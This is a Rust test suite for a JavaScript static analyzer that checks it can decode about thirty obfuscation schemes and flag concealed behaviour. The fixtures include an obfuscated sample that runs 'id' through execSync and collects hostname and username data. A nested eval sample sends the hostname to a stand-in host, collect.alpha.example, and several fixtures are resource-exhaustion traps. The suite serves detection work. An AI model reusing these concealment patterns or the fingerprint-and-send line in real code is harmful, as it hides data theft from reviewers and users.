use assay_model::Finding;
use base64::Engine;
use base64::engine::general_purpose::STANDARD;

use crate::analyze_source;

const LIST: &[&str] = &[
    "alpha.example",
    "beta.example.org",
    "mirror.corp.test",
    "gate.gamma.example",
];

/// A decoder: what it declares, and the expression of the list.
struct Shape {
    name: &'static str,
    setup: String,
    list: String,
}

fn shape(name: &'static str, setup: impl Into<String>, list: impl Into<String>) -> Shape {
    Shape {
        name,
        setup: setup.into(),
        list: list.into(),
    }
}

fn numbers(values: impl IntoIterator<Item = u64>) -> String {
    let all: Vec<String> = values.into_iter().map(|v| v.to_string()).collect();
    all.join(",")
}

fn rc4(key: &[u8], data: &[u8]) -> Vec<u8> {
    let mut s: Vec<u8> = (0..=255).collect();
    let mut j = 0usize;
    for i in 0..256 {
        j = (j + s[i] as usize + key[i % key.len()] as usize) & 255;
        s.swap(i, j);
    }
    let (mut i, mut j) = (0usize, 0usize);
    data.iter()
        .map(|b| {
            i = (i + 1) & 255;
            j = (j + s[i] as usize) & 255;
            s.swap(i, j);
            b ^ s[(s[i] as usize + s[j] as usize) & 255]
        })
        .collect()
}

#[expect(clippy::too_many_lines, reason = "one entry a shape")]
fn shapes() -> Vec<Shape> {
    let plain = LIST.join(",");
    let bytes = plain.as_bytes();
    let b64 = |bytes: &[u8]| STANDARD.encode(bytes);
    let mut out = Vec::new();

    let rolled: Vec<u8> = bytes
        .iter()
        .zip([7u8, 91, 23, 200].iter().cycle())
        .map(|(b, k)| b ^ k)
        .collect();
    out.push(shape(
        "rolling xor of hex",
        format!(
            "const key = [7, 91, 23, 200]; const text = '{}'; function unroll(hex) {{ let out = ''; for (let i = 0; i < hex.length; i += 2) out += String.fromCharCode(parseInt(hex.slice(i, i + 2), 16) ^ key[(i / 2) % key.length]); return out; }}",
            hex::encode(&rolled)
        ),
        "unroll(text).split(',')",
    ));
    out.push(shape(
        "rolling xor of base64 by a text",
        format!(
            "const word = 'tulip'; const blob = '{}'; const open = (text, with_) => Buffer.from(text, 'base64').map((b, i) => b ^ with_.charCodeAt(i % with_.length)).toString();",
            b64(&bytes.iter().zip(b"tulip".iter().cycle()).map(|(b, k)| b ^ k).collect::<Vec<_>>())
        ),
        "open(blob, word).split(',')",
    ));
    out.push(shape(
        "one function after the other",
        format!(
            "const packed = '{}'; const open = (text) => [...Buffer.from(text, 'base64')]; const turn = (list) => list.map((n, i) => n ^ (i % 251)); const read = (list) => String.fromCharCode(...list);",
            b64(&bytes.iter().enumerate().map(|(i, b)| b ^ u8::try_from(i % 251).unwrap()).collect::<Vec<_>>())
        ),
        "[open, turn, read].reduce((value, step) => step(value), packed).split(',')",
    ));
    let custom: String = b64(bytes)
        .chars()
        .map(|c| match c {
            'a'..='z' => c.to_ascii_uppercase(),
            'A'..='Z' => c.to_ascii_lowercase(),
            '+' => '-',
            '/' => '_',
            c => c,
        })
        .collect();
    out.push(shape(
        "another alphabet",
        format!(
            "const letters = 'abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789-_'; const kept = '{custom}'; function six(text) {{ let bits = 0, held = 0, out = ''; for (const c of text.replace(/=+$/, '')) {{ held = (held << 6) | letters.indexOf(c); bits += 6; if (bits >= 8) {{ bits -= 8; out += String.fromCharCode((held >> bits) & 255); }} }} return out; }}"
        ),
        "six(kept).split(',')",
    ));
    out.push(shape(
        "codes with arithmetic",
        format!(
            "const codes = [{}];",
            numbers(bytes.iter().map(|b| u64::from(*b) * 3 + 7))
        ),
        "codes.map((c) => String.fromCharCode((c - 7) / 3)).join('').split(',')",
    ));
    out.push(shape(
        "codes spread",
        format!(
            "const codes = [{}];",
            numbers(bytes.iter().map(|b| u64::from(*b) + 1000))
        ),
        "String.fromCharCode(...codes.map((c) => c - 1000)).split(',')",
    ));
    out.push(shape(
        "rc4",
        format!(
            "const secret = 'marble'; const cipher = '{}'; function stream(key, text) {{ const s = []; let j = 0, out = ''; for (let i = 0; i < 256; i++) s[i] = i; for (let i = 0; i < 256; i++) {{ j = (j + s[i] + key.charCodeAt(i % key.length)) % 256; [s[i], s[j]] = [s[j], s[i]]; }} let i = 0; j = 0; for (let n = 0; n < text.length; n++) {{ i = (i + 1) % 256; j = (j + s[i]) % 256; [s[i], s[j]] = [s[j], s[i]]; out += String.fromCharCode(text.charCodeAt(n) ^ s[(s[i] + s[j]) % 256]); }} return out; }}",
            b64(&rc4(b"marble", bytes))
        ),
        "stream(secret, atob(cipher)).split(',')",
    ));
    out.push(shape(
        "reversed",
        format!(
            "const turned = '{}'; const back = (text) => text.split('').reverse().join('');",
            plain.chars().rev().collect::<String>().replace('.', "!")
        ),
        "back(turned).replaceAll('!', '.').split(',')",
    ));
    let rotated: Vec<String> = {
        let mut all: Vec<String> = LIST.iter().map(|h| b64(h.as_bytes())).collect();
        all.push("17kDdYz".to_owned());
        all.rotate_left(2);
        all
    };
    out.push(shape(
        "a table that is turned",
        format!(
            "const table = {rotated:?}; (function (list, goal) {{ while (true) {{ try {{ if (parseInt(list[4]) === goal) break; list.push(list.shift()); }} catch (e) {{ list.push(list.shift()); }} }} }})(table, 0x11); const at = (n) => atob(table[n - 0x1f0]);"
        ),
        "[at(0x1f0), at(0x1f1), at(0x1f2), at(0x1f3)]",
    ));
    out.push(shape(
        "a table behind a function that replaces itself",
        format!(
            "function all() {{ const list = {:?}; all = function () {{ return list; }}; return all(); }} function pick(n, k) {{ const list = all(); pick = function (n, k) {{ n = n - 0x64; let text = list[n]; return atob(text); }}; return pick(n, k); }}",
            LIST.iter().map(|h| b64(h.as_bytes())).collect::<Vec<_>>()
        ),
        "[pick(0x64), pick(0x65), pick(0x66), pick(0x67)]",
    ));
    out.push(shape(
        "reduced pairs",
        format!(
            "const pairs = '{}';",
            hex::encode(bytes.iter().map(|b| b.wrapping_add(19)).collect::<Vec<_>>())
        ),
        "pairs.match(/../g).reduce((out, pair) => out + String.fromCharCode((parseInt(pair, 16) + 237) % 256), '').split(',')",
    ));
    out.push(shape(
        "pieces in templates",
        format!(
            "const p = (n) => String.fromCharCode(...n.map((c) => c ^ 42)); const one = [{}], two = [{}];",
            numbers(bytes[..20].iter().map(|b| u64::from(b ^ 42))),
            numbers(bytes[20..].iter().map(|b| u64::from(b ^ 42)))
        ),
        "`${p(one)}${p(two)}`.split(',')",
    ));
    let big = bytes
        .iter()
        .fold(String::new(), |out, b| format!("{out}{b:02x}"));
    out.push(shape(
        "a big integer",
        format!(
            "const huge = 0x{big}n; function spell(n) {{ let out = ''; while (n > 0n) {{ out = String.fromCharCode(Number(n & 255n)) + out; n >>= 8n; }} return out; }}"
        ),
        "spell(huge).split(',')",
    ));
    let mut zlib = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::best());
    std::io::Write::write_all(&mut zlib, bytes).unwrap();
    let zlib: Vec<u8> = zlib.finish().unwrap().iter().map(|b| b ^ 0x33).collect();
    out.push(shape(
        "compressed under xor",
        format!(
            "const zlib = require('zlib'); const packed = Buffer.from('{}', 'base64').map((b) => b ^ 0x33);",
            b64(&zlib)
        ),
        "zlib.inflateSync(packed).toString('utf8').split(',')",
    ));
    out.push(shape(
        "bits turned",
        format!(
            "const turnedBits = Uint8Array.from([{}]);",
            numbers(bytes.iter().map(|b| u64::from(b.rotate_left(3))))
        ),
        "new TextDecoder().decode(turnedBits.map((b) => ((b >> 3) | (b << 5)) & 255)).split(',')",
    ));
    out.push(shape(
        "added by place",
        format!(
            "const shifted = '{}'; const lower = (t) => [...atob(t)].map((c, i) => String.fromCharCode((c.charCodeAt(0) - i * 5 + 5120) % 256)).join('');",
            b64(&bytes
                .iter()
                .enumerate()
                .map(|(i, b)| b.wrapping_add(u8::try_from(i * 5 % 256).unwrap()))
                .collect::<Vec<_>>())
        ),
        "lower(shifted).split(',')",
    ));
    let rot47: String = plain
        .chars()
        .map(|c| char::from((c as u8 - 33 + 47) % 94 + 33))
        .collect();
    out.push(shape(
        "rot47",
        format!("const odd = {rot47:?};"),
        "odd.replace(/[!-~]/g, (c) => String.fromCharCode(33 + ((c.charCodeAt(0) - 33 + 47) % 94))).split(',')",
    ));
    let mut before = 0x5au8;
    let chained: Vec<u8> = bytes
        .iter()
        .map(|b| {
            before ^= b;
            before
        })
        .collect();
    out.push(shape(
        "each by the one before",
        format!(
            "const chain = '{}'; function unchain(text) {{ const raw = Buffer.from(text, 'hex'), out = Buffer.alloc(raw.length); let last = 0x5a; raw.forEach((b, i) => {{ out[i] = b ^ last; last = b; }}); return out.toString('latin1'); }}",
            hex::encode(&chained)
        ),
        "unchain(chain).split(',')",
    ));
    let mut state = 12345u64;
    let masked: Vec<u8> = bytes
        .iter()
        .map(|b| {
            state = (state * 1103 + 12345) % 65536;
            b ^ u8::try_from(state >> 8).unwrap()
        })
        .collect();
    out.push(shape(
        "under a generator",
        format!(
            "class Gen {{ constructor(seed) {{ this.state = seed; }} next() {{ this.state = (this.state * 1103 + 12345) % 65536; return this.state >> 8; }} }} const noisy = '{}'; function quiet(text, seed) {{ const gen = new Gen(seed); return [...Buffer.from(text, 'base64')].map((b) => String.fromCharCode(b ^ gen.next())).join(''); }}",
            b64(&masked)
        ),
        "quiet(noisy, 12345).split(',')",
    ));
    out.push(shape(
        "a map of letters",
        {
            let map: Vec<String> = ('a'..='z')
                .chain(['.', ','])
                .enumerate()
                .map(|(i, c)| format!("{:?}: {:?}", format!("{i:02}"), c.to_string()))
                .collect();
            let coded: String = plain
                .chars()
                .map(|c| {
                    let at = ('a'..='z').chain(['.', ',']).position(|x| x == c).unwrap();
                    format!("{at:02}")
                })
                .collect();
            format!(
                "const key = {{ {} }}; const coded = '{coded}';",
                map.join(", ")
            )
        },
        "coded.match(/../g).map((n) => key[n]).join('').split(',')",
    ));
    out.push(shape(
        "radix",
        format!(
            "const words = [{}];",
            LIST.iter()
                .flat_map(|h| h.split('.'))
                .map(|w| u64::from_str_radix(w, 36).unwrap().to_string())
                .collect::<Vec<_>>()
                .join(", ")
        ),
        "[words.slice(0, 2), words.slice(2, 5), words.slice(5, 8), words.slice(8)].map((p) => p.map((n) => n.toString(36)).join('.'))",
    ));
    out.push(shape(
        "percent under xor",
        format!(
            "const escaped = '{}';",
            bytes.iter().map(|b| format!("%{:02x}", b ^ 0x15)).collect::<String>()
        ),
        "unescape(escaped).split('').map((c) => String.fromCharCode(c.charCodeAt(0) ^ 0x15)).join('').split(',')",
    ));
    out.push(shape(
        "static members of a class",
        format!(
            "class Box {{ static key = 77; static held = '{}'; static open(text) {{ return [...atob(text)].map((c) => String.fromCharCode(c.charCodeAt(0) ^ Box.key)).join(''); }} }}",
            b64(&bytes.iter().map(|b| b ^ 77).collect::<Vec<_>>())
        ),
        "Box.open(Box.held).split(',')",
    ));
    out.push(shape(
        "members of an object",
        format!(
            "const box = {{ key: 78, held: '{}', open(text) {{ return [...atob(text)].map((c) => String.fromCharCode(c.charCodeAt(0) ^ this.key)).join(''); }} }};",
            b64(&bytes.iter().map(|b| b ^ 78).collect::<Vec<_>>())
        ),
        "box.open(box.held).split(',')",
    ));
    out.push(shape(
        "wrappers and a proxy",
        format!(
            "const inner = (t, k) => [...atob(t)].map((c) => String.fromCharCode(c.charCodeAt(0) ^ k)).join(''); const middle = (t) => inner(t, 79); const outer = new Proxy(middle, {{ apply(f, self, args) {{ return f(...args).split(','); }} }}); const sealed = '{}';",
            b64(&bytes.iter().map(|b| b ^ 79).collect::<Vec<_>>())
        ),
        "outer(sealed)",
    ));
    out.push(shape(
        "one after the other",
        format!(
            "const twice = '{}';",
            b64(b64(bytes).chars().rev().collect::<String>().as_bytes())
        ),
        "atob(atob(twice).split('').reverse().join('')).split(',')",
    ));
    out.push(shape(
        "a generator function",
        format!(
            "const steps = [{}]; function* letters(list) {{ for (const n of list) yield String.fromCodePoint(n >> 2); }}",
            numbers(bytes.iter().map(|b| u64::from(*b) * 4 + 1))
        ),
        "[...letters(steps)].join('').split(',')",
    ));
    out.push(shape(
        "a key from a digest",
        {
            use sha2::Digest;
            let key: [u8; 32] = sha2::Sha256::digest(b"stone").into();
            let masked: Vec<u8> =
                bytes.iter().zip(key.iter().cycle()).map(|(b, k)| b ^ k).collect();
            format!(
                "const crypto = require('node:crypto'); const salt = crypto.createHash('sha256').update('stone').digest(); const masked = '{}';",
                b64(&masked)
            )
        },
        "Buffer.from(masked, 'base64').map((b, i) => b ^ salt[i % salt.length]).toString().split(',')",
    ));
    let transposed: String = {
        let rows = bytes.len().div_ceil(7);
        let at = |row: usize, column: usize| bytes.get(row * 7 + column).copied().unwrap_or(b'~');
        (0..7)
            .flat_map(|c| (0..rows).map(move |r| (r, c)))
            .map(|(r, c)| char::from(at(r, c)))
            .collect()
    };
    out.push(shape(
        "rows and columns",
        format!(
            "const grid = '{transposed}'; const width = 7; function read(text) {{ const rows = text.length / width; let out = ''; for (let r = 0; r < rows; r++) for (let c = 0; c < width; c++) out += text.charAt(c * rows + r); return out.replace(/~+$/, ''); }}"
        ),
        "read(grid).split(',')",
    ));
    out.push(shape(
        "filled by a loop",
        format!(
            "const raw = [{}]; const filled = []; for (let i = 0, word = ''; i <= raw.length; i++) {{ const c = String.fromCharCode(raw[i] ^ 0x61); if (i === raw.length || c === ',') {{ filled.push(word); word = ''; }} else word += c; }}",
            numbers(bytes.iter().map(|b| u64::from(b ^ 0x61)))
        ),
        "filled.slice()",
    ));
    out.push(shape(
        "written by a loop",
        format!(
            "const raw = [{}]; let written = ''; for (const n of raw) written += String.fromCharCode(n - 300);",
            numbers(bytes.iter().map(|b| u64::from(*b) + 300))
        ),
        "written.split(',')",
    ));
    out
}

/// The places of a module at which a decoder may stand.
fn forms(shape: &Shape) -> Vec<(&'static str, String)> {
    let Shape { setup, list, .. } = shape;
    let dense = |text: &str| {
        text.replace(" = ", "=")
            .replace("; ", ";")
            .replace(") {", "){")
    };
    vec![
        (
            "at the top",
            format!(
                "{setup}\nconst list = {list};\nexport const has = (host) => list.includes(host);\n"
            ),
        ),
        (
            "in a function, before its constants",
            format!(
                "export function has(host) {{\n  const list = {list};\n  return list.includes(host);\n}}\n{setup}\n"
            ),
        ),
        (
            "kept when first needed",
            format!(
                "let kept;\n{setup}\nexport function has(host) {{\n  kept ??= {list};\n  return kept.includes(host);\n}}\n"
            ),
        ),
        (
            "in a bundler's wrapper",
            format!(
                "var later=(f,r)=>()=>(f&&(r=f(f=0)),r);var listed;var init=later(()=>{{{}listed={}}});module.exports=e=>(init(),listed.includes(e));",
                dense(setup),
                dense(list)
            ),
        ),
        (
            "in a function that is called at once",
            format!(
                "!function(e,t){{{}var n={};e.has=function(e){{return n.includes(e)}};t()}}(exports,function(){{process.exit()}});",
                dense(setup),
                dense(list)
            ),
        ),
        (
            "with a require that was made",
            format!(
                "import {{createRequire as made}} from 'node:module';\nvar load=made(import.meta.url),fs=load('fs');\n{}\nexport const has=host=>fs.existsSync(host)&&{}.includes(host);\n",
                setup.replace("require(", "load("),
                list.replace("require(", "load("),
            ),
        ),
        (
            "beside code that leads outside",
            format!(
                "const os = require('os');\nimport fs from 'fs';\nlet a = process.env.A, b = a;\n{setup}\nfor (const x of process.argv) console.log(x, os.hostname());\nconst list = new Set({list});\nfs.watch(a, () => list.has(b));\n"
            ),
        ),
    ]
}

fn decoded(findings: &[Finding]) -> Vec<Vec<String>> {
    findings
        .iter()
        .filter(|finding| finding.behaviour == "conceal.encoded-list")
        .flat_map(|finding| finding.evidence.iter())
        .map(|evidence| evidence.decoded.clone())
        .collect()
}

#[test]
fn decoders_of_all_shapes_are_evaluated() {
    let mut failures = Vec::new();
    let all = shapes();
    assert!(all.len() >= 25);
    for shape in &all {
        for (form, source) in forms(shape) {
            let findings = analyze_source("decoder.js", &source);
            let lists = decoded(&findings);
            if !lists.iter().any(|list| list == LIST) {
                failures.push(format!("{} {form}: {lists:?}\n{source}", shape.name));
            }
        }
    }
    assert!(
        failures.is_empty(),
        "{} of {} failures:\n{}",
        failures.len(),
        all.len() * 7,
        failures.join("\n\n")
    );
}

/// What has the marks of decoding and keeps nothing from a reader.
#[test]
fn ordinary_constants_give_no_findings() {
    let png = STANDARD.encode(
        (0..600u32)
            .map(|n| u8::try_from(n.wrapping_mul(2_654_435_761) >> 24).unwrap())
            .collect::<Vec<u8>>(),
    );
    let words = STANDARD.encode("red,green,blue,orange,violet,black,white");
    let wasm = STANDARD.encode([b"\0asm\x01\0\0\0".as_slice(), &[7; 300]].concat());
    let table = numbers((0..400).map(|n| 0x4e00 + n * 3));
    for source in [
        format!("const icon = Buffer.from('{png}', 'base64'); export const url = () => `data:image/png;base64,${{icon.toString('base64')}}`;"),
        format!("const font = Uint8Array.from(atob('{png}'), (c) => c.charCodeAt(0)); load(font);"),
        format!("const wide = [{table}]; export const isWide = (c) => wide.map((n) => String.fromCharCode(n)).join('').includes(c);"),
        format!("const wasm = Buffer.from('{wasm}', 'base64'); export const made = WebAssembly.compile(wasm);"),
        format!("const colours = atob('{words}').split(','); paint(colours);"),
        "const vectors = [['abc', 'ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad'], ['', 'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855']]; for (const [text, hash] of vectors) check(text, Buffer.from(hash, 'hex'));".to_owned(),
        "const hosts = ['alpha.example', 'beta.example.org', 'mirror.corp.test']; const turned = hosts.map((h) => h.split('').reverse().join('').split('').reverse().join('')); use(turned);".to_owned(),
        "const hex = [...'0123456789abcdef']; export const show = (b) => hex[b >> 4] + hex[b & 15]; export const crlf = String.fromCharCode(13, 10);".to_owned(),
        "const crc = Array.from({ length: 256 }, (_, n) => { for (let k = 0; k < 8; k++) n = n & 1 ? 0xedb88320 ^ (n >>> 1) : n >>> 1; return n >>> 0; }); export const sum = (text) => [...text].reduce((c, t) => crc[(c ^ t.charCodeAt(0)) & 255] ^ (c >>> 8), -1);".to_owned(),
        "const version = '1.2.3'.split('.').reverse().join('-'); console.log(version, decodeURIComponent('%7Bname%7D'));".to_owned(),
        "class Emitter { on(name) { return name.charCodeAt(0) ^ 1; } } const emitter = new Emitter(); emitter.on('ready'); emitter.on('finished');".to_owned(),
    ] {
        let found: Vec<String> = analyze_source("plain.js", &source)
            .into_iter()
            .filter(|finding| finding.behaviour.starts_with("conceal."))
            .map(|finding| format!("{}: {}", finding.behaviour, finding.title))
            .collect();
        assert_eq!(found, [""; 0], "{source}");
    }
}

/// What is not known here decides, so nothing is a constant.
#[test]
fn what_depends_on_the_outside_is_no_constant() {
    let hidden: String = LIST.join(",").chars().rev().collect();
    for source in [
        // The key comes from outside, or might.
        format!(
            "const turn = (t) => t.split('').reverse().join(''); export const list = (process.env.A ? turn('{hidden}') : turn('x')).split(',');"
        ),
        format!(
            "const turn = (t) => Math.random() > 2 ? t : t.split('').reverse().join(''); export const list = turn('{hidden}').split(',');"
        ),
        format!(
            "import {{ key }} from './key.js'; const turn = (t, k) => k ? t : t.split('').reverse().join(''); export const list = turn('{hidden}', key).split(',');"
        ),
        format!(
            "const turn = (t) => new Date().getDay() > 9 ? t : t.split('').reverse().join(''); export const list = turn('{hidden}').split(',');"
        ),
    ] {
        let findings = analyze_source("outside.js", &source);
        let evaluated = findings
            .iter()
            .flat_map(|finding| &finding.evidence)
            .find(|evidence| evidence.note.starts_with("evaluated") && evidence.decoded.len() > 1);
        assert_eq!(evaluated, None, "{source}");
    }
    // A fact about the host stays one, though it could be evaluated.
    let findings = analyze_source(
        "fact.js",
        "const codes = [104, 105]; function zone() { try { return new Intl.DateTimeFormat().resolvedOptions().timeZone } catch { return String.fromCharCode(...codes) } } send(zone());",
    );
    assert!(
        findings
            .iter()
            .any(|f| f.behaviour == "fingerprint.timezone"),
        "{findings:?}"
    );
}

#[test]
fn obfuscated_names_are_names_again() {
    let table: Vec<String> = [
        "hostname",
        "child_process",
        "execSync",
        "env",
        "ALPHA_BASE_URL",
        "platform",
        "release",
        "userInfo",
        "username",
        "concat",
        "length",
        "https",
        "request",
    ]
    .iter()
    .map(|name| STANDARD.encode(name))
    .collect();
    let source = format!(
        "var _0x1a2b=function(){{var t={table:?};_0x1a2b=function(){{return t}};return _0x1a2b()}};function _0x3c4d(n){{var t=_0x1a2b();return atob(t[n-0x10])}}var os=require('os');function go(){{var a=os[_0x3c4d(0x10)]();require(_0x3c4d(0x11))[_0x3c4d(0x12)]('id '+a);return process[_0x3c4d(0x13)][_0x3c4d(0x14)]+os[_0x3c4d(0x15)]()+os[_0x3c4d(0x16)]()+os[_0x3c4d(0x17)]()[_0x3c4d(0x18)]+a[_0x3c4d(0x1a)]+_0x3c4d(0x1b)+_0x3c4d(0x1c)}}"
    );
    let findings = analyze_source("packed.js", &source);
    for behaviour in [
        "fingerprint.hostname",
        "reach.process",
        "fingerprint.base-url",
        "fingerprint.username",
        "conceal.packed",
    ] {
        assert!(
            findings.iter().any(|f| f.behaviour == behaviour),
            "{behaviour}: {findings:#?}"
        );
    }
}

#[test]
fn decoded_code_is_read() {
    let inmost = "const os = require('os'); const name = os.hostname(); fetch('https://collect.alpha.example/' + name);";
    let mut code = inmost.to_owned();
    for level in 0..3 {
        let key = 40 + level;
        let coded: Vec<u8> = code.bytes().map(|b| b ^ key).collect();
        code = format!(
            "const text = '{}'; const open = (t) => [...atob(t)].map((c) => String.fromCharCode(c.charCodeAt(0) ^ {key})).join(''); eval(open(text));",
            STANDARD.encode(coded)
        );
        let findings = analyze_source("nested.js", &code);
        let host = findings
            .iter()
            .find(|f| f.behaviour == "fingerprint.hostname")
            .unwrap_or_else(|| panic!("level {level}: {findings:#?}"));
        assert!(
            host.evidence[0]
                .note
                .starts_with("in a text that is decoded here"),
            "{host:#?}"
        );
        assert!(
            findings
                .iter()
                .any(|f| f.key.contains("collect.alpha.example"))
        );
    }
    // One more is beyond the limit, and that is said.
    let coded: String = STANDARD.encode(&code);
    let read = crate::node::read(
        format!("eval(atob('{coded}'))").as_bytes(),
        &[],
        crate::node::Described {
            kind: "javascript",
            path: "deep.js",
            container: false,
            map: None,
            subject: "",
        },
        crate::node::Mode::Best,
        &mut crate::evaluate::here,
    );
    assert_eq!(read.gap, Some(assay_model::Gap::Limit));
    assert!(read.detail.contains("decoded 3 times"), "{}", read.detail);
}

fn coverage(source: &str) -> String {
    crate::node::read(
        source.as_bytes(),
        &[],
        crate::node::Described {
            kind: "javascript",
            path: "x.js",
            container: false,
            map: None,
            subject: "",
        },
        crate::node::Mode::Best,
        &mut crate::evaluate::here,
    )
    .detail
}

#[test]
fn hostile_slices_cost_no_more_than_the_limits() {
    let constant = "9f8e7d6c5b4a39281706f5e4d3c2b1a0";
    // What takes all steps is named, and what is beside it is still found.
    let endless = format!(
        "function spin(t) {{ while (t.charCodeAt(0)) {{}} return t }} export const a = spin('{constant}');"
    );
    assert!(
        coverage(&endless).contains("the limit on steps"),
        "{}",
        coverage(&endless)
    );
    let deep = format!(
        "function fall(t) {{ return fall(t + String.fromCharCode(1)) }} export const a = fall('{constant}');"
    );
    assert!(
        coverage(&deep).contains("the limit on nesting"),
        "{}",
        coverage(&deep)
    );
    let bomb = format!(
        "function grow(t) {{ for (;;) t += t + t.charCodeAt(0) }} export const a = grow('{constant}');"
    );
    let said = coverage(&bomb);
    assert!(
        said.contains("limit on memory")
            || said.contains("invalid string length")
            || said.is_empty(),
        "{said}"
    );
    let hidden: String = LIST.join(",").chars().rev().collect();
    let beside = format!(
        "{endless} const turn = (t) => t.split('').reverse().join(''); export const list = turn('{hidden}').split(',');"
    );
    assert!(
        decoded(&analyze_source("x.js", &beside))
            .iter()
            .any(|list| list == LIST)
    );
    // A thousand functions that call each other.
    let mut maze = String::new();
    for n in 0..1000 {
        maze.push_str(&format!(
            "function f{n}(t) {{ return f{}(t) + String.fromCharCode(t.charCodeAt({n}) ^ {}) }}\n",
            (n * 7 + 1) % 1000,
            n % 256
        ));
    }
    maze.push_str(&format!("export const a = f0('{constant}');"));
    let started = std::time::Instant::now();
    let _ = coverage(&maze);
    // Megabytes of constants, and as many sites.
    let big = format!(
        "const t = '{}'; const d = (n) => String.fromCharCode(t.charCodeAt(n) ^ 3); export const all = [{}];",
        constant.repeat(60_000),
        (0..30_000)
            .map(|n| format!("d({n})"))
            .collect::<Vec<_>>()
            .join(",")
    );
    assert!(
        coverage(&big).contains("values beyond the first"),
        "{}",
        coverage(&big)
    );
    assert!(started.elapsed().as_secs() < 60);
    // Traps in what is given back, and no end to a promise.
    for result in [
        "({ get host() { for (;;) {} }, a: dec(t) })",
        "new Proxy([dec(t)], { get() { throw dec(t) } })",
        "(async () => { await new Promise(() => {}); return dec(t) })()",
        "[].constructor.constructor('return this')()[dec(t)]",
        "Object.defineProperty([dec(t)], 1, { get() { return dec(t).repeat(1 << 30) }, enumerable: true })",
        "(() => { debugger; return dec(t) })()",
    ] {
        let source = format!(
            "const t = '{constant}'; const dec = (x) => x.replace(/../g, (h) => String.fromCharCode(parseInt(h, 16))); export const a = {result};"
        );
        let _ = coverage(&source);
    }
}

#[test]
fn any_text_is_sliced_to_the_same() {
    let source = forms(&shapes()[7])[4].1.clone();
    let show = |source: &str| format!("{:?}", analyze_source("x.js", source));
    assert_eq!(show(&source), show(&source));
}

#[test]
fn types_are_left_out() {
    let hidden: String = LIST.join(",").chars().rev().collect();
    let source = format!(
        "interface Opts {{ key: string }}\nclass Box implements Opts {{ private readonly key: string = ''; static table: number[] = [1, 2]; constructor(public word: string, deep?: number) {{ this.key = word as string; }} public open<T extends string>(text: T, times?: number): string {{ let out!: string; out = (text as unknown as string).split('').reverse().join('')!; return out satisfies string; }} }}\nconst hidden: string = '{hidden}';\nexport const list: readonly string[] = new Box('a').open<string>(hidden).split(',');\n"
    );
    let findings = analyze_source("typed.ts", &source);
    assert!(
        decoded(&findings).iter().any(|list| list == LIST),
        "{findings:#?}"
    );
}
